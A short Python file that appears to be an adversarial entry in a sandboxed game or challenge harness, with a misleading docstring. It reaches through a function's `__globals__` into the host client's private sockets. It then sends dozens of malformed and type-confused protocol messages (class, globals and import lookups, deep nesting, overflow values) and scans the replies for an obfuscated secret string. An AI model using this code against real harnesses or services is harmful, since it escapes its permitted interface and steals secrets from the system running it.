"""Says to what it is lent whatever it likes: other handles, tags, sizes, and no JSON at all."""
#: others = "any"
#: never = ["\u006eobody can guess", "\u00660c1be7d0b14f"]
import os
import socket

def sockets(function):
    client = function.__globals__["ask"].__self__
    found = [socket.socket(fileno=os.dup(end.fileno())) for end in (client._socket, client._knocker)]
    for end in found:
        end.settimeout(0.05)
    return found

def loot_in(said):
    words = bytes(reversed(b"sseug nac ydobon")), bytes(reversed(b"f41b0d7eb1c0f")), b"sha256"
    return [said] if any(word in said for word in words) else []

import json

TREES = [
    [1, 1, [1]], [1, "secret", [1]], [1, -1, []], [1, 0, [{"l": "secret"}]], [1, 0, [{"n": 7}]],
    [1, 0, [{"k": [99, 1]}]], [1, 0, [{"c": [0, "f"]}]], [1, 0, [{"e": ["game.Player", "__class__"]}]],
    [1, 0, [{"a": ["|O", [1], ""]}]], [1, 0, [{"a": ["<f8", [1 << 40], ""]}]], [1, 0, [{"b": "!"}]],
    [1, 0, [{"t": "ab"}]], [1, 0, [{"d": [[], []]}]], [1, 0, [{}]], [1, 0, [{"__class__": 1}]],
    [1, 0, [1], ["__globals__"], [1]], [1, 0, [1], [1], [1]], ["=", 1, 1], ["!", 1, 1, "SystemExit"],
    ["!", 1, 1, "__import__"], {"notes": True}, {"series": []}, [True, True, [True]], 1, None, "x",
]
BODIES = [json.dumps(tree).encode() for tree in TREES]
BODIES += [b"", b"[" * 100_000, b"\xff" * 9, b'[1,0,["' + b"x" * 99, b"1e999", b"[1,0,[" + b"9" * 5000 + b"]]"]

def borrow(secret, number):
    right, loot = secret(number), []
    for end in sockets(secret):
        for body in BODIES:
            try:
                end.sendall(len(body).to_bytes(4, "big") + body)
                loot += loot_in(end.recv(1 << 16))
            except OSError:
                pass
    return loot or right

def attack(number):
    return "no idea"
